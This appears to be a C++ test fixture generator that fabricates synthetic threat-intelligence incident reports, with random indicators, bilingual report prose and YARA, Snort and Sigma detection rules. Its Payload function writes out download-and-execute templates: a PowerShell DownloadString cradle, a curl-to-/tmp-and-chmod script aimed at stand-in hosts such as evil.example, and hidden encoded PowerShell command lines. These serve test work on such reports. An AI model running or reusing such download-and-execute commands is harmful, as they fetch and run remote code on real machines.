#include <array>

#include <fmt/format.h>

#include "tests/leak/corpus.h"
#include "tests/leak/forms.h"

namespace renkei::leak {
namespace {

namespace v1 = record::v1;

std::string Domain(Random& random) {
  return fmt::format("{}-{}.{}", random.Lower(random.Between(3, 7)), random.Lower(4),
                     random.Pick(std::array<const char*, 4>{"bad.example", "example.net",
                                                            "cdn.example.org", "evil.example"}));
}
std::string Address(Random& random) {
  return fmt::format("{}.{}", random.OneIn(2) ? "198.51.100" : "192.0.2", random.Between(1, 254));
}
std::string Address6(Random& random) {
  return fmt::format("2001:db8:bad:{:x}::{:x}", random.Below(0xffff), random.Between(1, 0xffff));
}
std::string Uuid(Random& random) {
  return fmt::format("{}-{}-4{}-a{}-{}", random.Hex(8), random.Hex(4), random.Hex(3), random.Hex(3),
                     random.Hex(12));
}
std::string Url(Random& random) {
  const std::string host = random.OneIn(3) ? Address(random) : Domain(random);
  switch (random.Below(5)) {
    case 0:
      return fmt::format("http://{}/wp-content/{}/{}.php?id={}", host, random.Lower(6),
                         random.Lower(4), random.Digits(5));
    case 1:
      return fmt::format("https://{}/{}/{}", host, random.Token(12), random.Lower(5));
    case 2:
      return fmt::format("http://{}:{}/gate.php", host, random.Between(1024, 65535));
    case 3:
      return fmt::format("https://{}/login?session={}&step=2", host, random.Hex(32));
    default:
      return fmt::format("hxxp://{}/a/{}.exe", host, random.Lower(8));
  }
}

struct Kept {
  v1::IndicatorType type;
  std::string value;
};

Kept Indicator(Random& random) {
  switch (random.Below(20)) {
    case 0:
    case 1:
      return {v1::INDICATOR_TYPE_IPV4, Address(random)};
    case 2:
      return {v1::INDICATOR_TYPE_IPV6, Address6(random)};
    case 3:
    case 4:
      return {v1::INDICATOR_TYPE_DOMAIN, Domain(random)};
    case 5:
    case 6:
      return {v1::INDICATOR_TYPE_URL, Url(random)};
    case 7:
      return {v1::INDICATOR_TYPE_SHA256, random.Hex(64)};
    case 8:
      return {v1::INDICATOR_TYPE_MD5, random.Hex(32)};
    case 9:
      return {v1::INDICATOR_TYPE_SHA1, random.Hex(40)};
    case 10:
      return {v1::INDICATOR_TYPE_EMAIL,
              fmt::format("{}{}@{}", random.Lower(6), random.Digits(2), Domain(random))};
    case 11:
      return {v1::INDICATOR_TYPE_FILE_PATH,
              fmt::format("C:\\ProgramData\\{}\\{}.dll", random.Lower(7), random.Lower(5))};
    case 12:
      return {v1::INDICATOR_TYPE_PDB_PATH,
              fmt::format("D:\\work\\{0}\\x64\\Release\\{0}.pdb", random.Lower(6))};
    case 13:
      return {v1::INDICATOR_TYPE_MUTEX, "Global\\" + Uuid(random)};
    case 14:
      return {v1::INDICATOR_TYPE_REGISTRY_KEY,
              "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\" + random.Lower(6)};
    case 15:
      return {
          v1::INDICATOR_TYPE_USER_AGENT,
          fmt::format("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                      "Gecko) Chrome/{}.0.{}.{} Safari/537.36",
                      random.Between(90, 140), random.Between(1000, 7000), random.Below(200))};
    case 16:
      return {v1::INDICATOR_TYPE_SSDEEP,
              fmt::format("{}:{}:{}", 384 << random.Below(5), random.Token(48), random.Token(30))};
    case 17:
      return {v1::INDICATOR_TYPE_BITCOIN_ADDRESS,
              "bc1q" + random.Chars("023456789acdefghjklmnpqrstuvwxyz", 38)};
    case 18:
      return {v1::INDICATOR_TYPE_IPV4_NET, "198.51.100.0/25"};
    default:
      return {v1::INDICATOR_TYPE_JA3, random.Hex(32)};
  }
}

std::string Payload(Random& random) {
  switch (random.Below(5)) {
    case 0:
      return Base64(random.Bytes(random.Between(60, 2000)));
    case 1:
      return Base64(Utf16(
          fmt::format("IEX (New-Object Net.WebClient).DownloadString('{}')", Url(random)), true));
    case 2:
      return Base64(fmt::format("#!/bin/sh\ncurl -s {} -o /tmp/.{} && chmod +x /tmp/.{}\n",
                                Url(random), random.Lower(4), random.Lower(4)));
    case 3: {
      std::string dump;
      for (int i = 0; i < 64; ++i) dump += random.Hex(2) + (i % 16 == 15 ? "\n" : " ");
      return dump;
    }
    default:
      return random.Hex(2 * random.Between(40, 600));
  }
}

std::string EnglishSentence(Random& random, const std::string& named) {
  constexpr std::array<const char*, 24> kSentences = {
      "The adversary sent invoices to at least ten teams; the attachment drops a loader.",
      "Beacons go to {} every hour with a jitter of 20%.",
      "The loader ({}) is written in Rust and was built with version 1.74.0.",
      "It exploits CVE-2024-38112 and CVE-2023-36884; update to 7.4.3-2 or 16.0.17928.20114.",
      "The vendor fixed this in KB5034441 and in build 10.0.19045.3803 of the system.",
      "Technique T1566.001 followed by T1059.001; compare UNC2452, APT29, TA505 and FIN7.",
      "The certificate's fingerprint is "
      "3f:1a:99:00:c4:7e:55:20:1b:66:9a:de:ad:be:ef:01:23:45:67:89.",
      "DNS questions went to 8.8.8.8 and 1.1.1.1 before {} was reached.",
      "Ransom of $500,000 in Bitcoin was asked for within 72 hours.",
      "Since March 2025 the group has hit more than 50 organisations in 12 countries.",
      "The archive is protected by the password `infected` and holds 3 files.",
      "First seen on 2026-03-04, active until 14:30 UTC of the next day.",
      "See RFC 9110, section 15.4, and ISO/IEC 27001:2022.",
      "The mutex and the user agent are those of the campaign of 2024-11.",
      "Listens on ports 4444/tcp, 8080/tcp and 53/udp.",
      "Signed with the serial number 0A1B2C3D4E5F60718293A4B5C6D7E8F9.",
      "The file is 1,482,752 bytes long; its entropy is 7.98.",
      "It asks https://{} for tasks and answers with AES-256-CBC, UTF-8 and SHA-256.",
      "Drops %APPDATA%\\Microsoft\\update.dll and C:\\Windows\\Temp\\a1.tmp, then reboots.",
      "Users should turn macros off, block {} and search their proxies for it.",
      "Compare the reports of other vendors: the same kit was sold in 2023 for 0.05 BTC.",
      "Its configuration is at offset 0x0001f4a0; the key is at 0x00402010.",
      "The watermark of the beacon is 987654321, the sleep time 60000 ms.",
      "Detection: process creation of rundll32.exe with the argument `#1`, parent winword.exe."};
  return fmt::format(fmt::runtime(random.Pick(kSentences)), named) + " ";
}

std::string JapaneseSentence(Random& random, const std::string& named) {
  constexpr std::array<const char*, 12> kSentences = {
      "攻撃者は請求書を装ったメールを送付し、添付ファイルを開かせた。",
      "通信先は {} であり、１時間ごとに通信する。",
      "本マルウェアは CVE-2024-21412 を悪用する。修正版は 2.1.5 である。",
      "認証情報を窃取した後、ＶＰＮ装置へ侵入したとみられる。",
      "該当する通信（{}）がないか、プロキシのログを確認してください。",
      "複数の業種で同様の被害が報告されている。",
      "ローダーはメモリ上で実行され、ディスクには痕跡が残らない。",
      "ランサムウェアの身代金要求額は約5000万円とされる。",
      "2026年3月4日の午後から活動が確認されている。",
      "検知ルールを適用し、{} を遮断することを推奨する。",
      "クラウドストレージのリンクを悪用したフィッシングが増加している。",
      "ファイル名は「請求書_202603.zip」で、展開すると .lnk が１件含まれる。"};
  return fmt::format(fmt::runtime(random.Pick(kSentences)), named);
}

std::string Prose(Random& random, const std::vector<Kept>& kept, std::size_t sentences) {
  std::string text;
  const bool japanese = random.OneIn(2);
  for (std::size_t i = 0; i < sentences; ++i) {
    const std::string& named = random.Pick(kept).value;
    text += japanese ? JapaneseSentence(random, named) : EnglishSentence(random, named);
    if (random.OneIn(5)) text += "\n";
  }
  return text;
}

std::string RuleBody(Random& random, const std::vector<Kept>& kept) {
  switch (random.Below(3)) {
    case 0:
      return fmt::format(
          "rule loader_{} {{\n  meta:\n    hash = \"{}\"\n    date = \"2026-02-{:02}\"\n  "
          "strings:\n"
          "    $a = {{ {} 4d 5a 90 00 }}\n    $b = \"{}\" ascii wide\n    $c = "
          "\"C:\\\\Users\\\\dev\\\\x.pdb\"\n"
          "  condition:\n    uint16(0) == 0x5a4d and 2 of them\n}}\n",
          random.Lower(6), random.Hex(64), random.Between(1, 28), random.Hex(8), Domain(random));
    case 1:
      return fmt::format(
          "alert tcp $HOME_NET any -> {} $HTTP_PORTS (msg:\"loader beacon\"; flow:established,"
          "to_server; content:\"/gate.php\"; http_uri; sid:{}; rev:2;)\n",
          Address(random), random.Between(1000000, 9999999));
    default:
      return fmt::format(
          "title: Loader start\nid: {}\nstatus: test\nlogsource:\n  category: process_creation\n"
          "detection:\n  selection:\n    Image|endswith: '\\rundll32.exe'\n    "
          "CommandLine|contains: "
          "'{}'\n  condition: selection\nlevel: high\n",
          Uuid(random), random.Pick(kept).value);
  }
}

}  // namespace

record::Draft MakeClean(Random& random) {
  record::Draft draft;
  draft.header.kind = policy::Kind::kIncident;
  draft.header.tags = {"phishing", "loader"};
  auto& s = draft.sections;
  std::vector<Kept> kept;
  for (std::size_t i = random.Between(2, 10); i > 0; --i) {
    kept.push_back(Indicator(random));
    auto& indicator = *s.mutable_indicators()->add_indicators();
    indicator.set_type(kept.back().type);
    indicator.set_value(kept.back().value);
    indicator.set_actionable(!random.OneIn(4));
    indicator.set_source_type("x-" + random.Lower(4));
    if (random.OneIn(4)) indicator.mutable_comment()->set_value(EnglishSentence(random, "it"));
  }
  s.mutable_summary()->add_title()->set_value(random.OneIn(2) ? "Loader after a phishing wave"
                                                              : "請求書を装う攻撃");
  s.mutable_summary()->add_description()->set_value(Prose(random, kept, random.Between(3, 14)));
  s.mutable_summary()->add_labels("misp-galaxy:tool=\"loader\"");
  if (random.OneIn(3)) {
    s.mutable_log_excerpts()->add_excerpts()->set_text("decoded later: " + Payload(random));
  }
  if (random.OneIn(4)) {
    s.mutable_summary()->add_description()->set_value("powershell -nop -w hidden -enc " +
                                                      Payload(random) + "\nwas run.");
  }
  if (random.OneIn(3)) {
    auto& rule = *s.mutable_detection_rules()->add_rules();
    rule.set_language("yara");
    rule.set_body(RuleBody(random, kept));
  }
  if (random.OneIn(3)) {
    auto& reference = *s.mutable_references()->add_references();
    reference.set_source("cve");
    reference.set_url(
        fmt::format("https://reports.example.org/2026/{}-{}", random.Lower(8), random.Digits(4)));
    reference.set_external_id("CVE-2024-" + random.Digits(5));
  }
  if (random.OneIn(3)) {
    auto& technique = *s.mutable_techniques()->add_techniques();
    technique.set_framework("mitre-attack");
    technique.set_id("T1566.001");
    technique.mutable_comment()->set_value("uuid " + Uuid(random));
  }
  return draft;
}

}  // namespace renkei::leak
